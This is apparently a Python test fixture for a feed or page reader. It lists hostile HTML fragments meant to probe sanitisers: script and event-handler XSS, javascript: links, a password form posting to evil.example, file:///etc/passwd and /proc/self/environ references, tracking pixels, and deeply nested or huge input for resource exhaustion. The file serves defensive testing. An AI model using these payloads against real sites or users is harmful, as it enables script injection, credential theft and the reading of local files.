"""Hostile HTML for the reader: what feeds and pages really send, and what the libraries were probed with."""

from __future__ import annotations

from pathlib import Path

DATA = Path(__file__).resolve().parents[1] / "data"

FRAGMENTS = {
    "script": '<p>Hi</p><script>document.title="owned"</script><noscript><img src="https://t.example/p.gif"></noscript>',
    "handlers": '<img src=x onerror="alert(1)"><p onclick="x()" onmouseover="y()">para</p><body onload="z()">',
    "javascript-links": '<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a>'
    '<a href="vbscript:x">c</a>',
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><image href="file:///etc/passwd"/></svg>',
    "forms": '<form action="https://evil.example"><input type="password" name="p"><button>Log in</button></form>',
    "device-images": '<img src="/dev/zero"><img src="file:///dev/zero"><img src="file:///etc/passwd">'
    '<img src="//tracker.example/p">',
    "fifo-and-proc": '<img src="/proc/self/environ"><img src="file:///proc/self/mem"><img src="/tmp/fifo">',
    "css": '<style>@import "file:///etc/passwd"; body{background:url(https://t.example/b.png)}</style>'
    '<link rel="stylesheet" href="https://t.example/s.css"><p style="background:url(file:///etc/passwd)">s</p>',
    "fonts-and-posters": '<video poster="https://t.example/poster.jpg" src="https://t.example/v.mp4"></video>'
    "<style>@font-face{font-family:x;src:url(https://t.example/f.woff)}</style>",
    "objects": '<object data="file:///etc/passwd"></object><embed src="file:///dev/zero"><iframe src="file:///"></iframe>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=file:///etc/passwd"><base href="file:///">',
    "nested-tables-30": "<table><tr><td>" * 30 + "deep" + "</td></tr></table>" * 30,
    "nested-divs-10k": "<div>" * 10_000 + "deep" + "</div>" * 10_000,
    "tracking-pixels": '<img src="https://t.example/1.gif" width="1" height="1"><img src="https://t.example/open?u=1">',
    "bidi-and-controls": "<p>\u202eevil\u202c text \x00 with \x07 controls</p>",
    "huge-text": "<p>" + "word " * 400_000 + "</p>",
}


def pages() -> dict[str, str]:
    """Every hostile page: the fragments above, the hostile feed page, and the real pages kept for tests."""
    found = dict(FRAGMENTS)
    found["hostile-feed-page"] = (DATA / "feeds" / "hostile" / "page.html").read_text(errors="replace")
    for path in sorted((DATA / "pages").glob("*.html")):
        found[path.stem] = path.read_text(errors="replace")
    return found
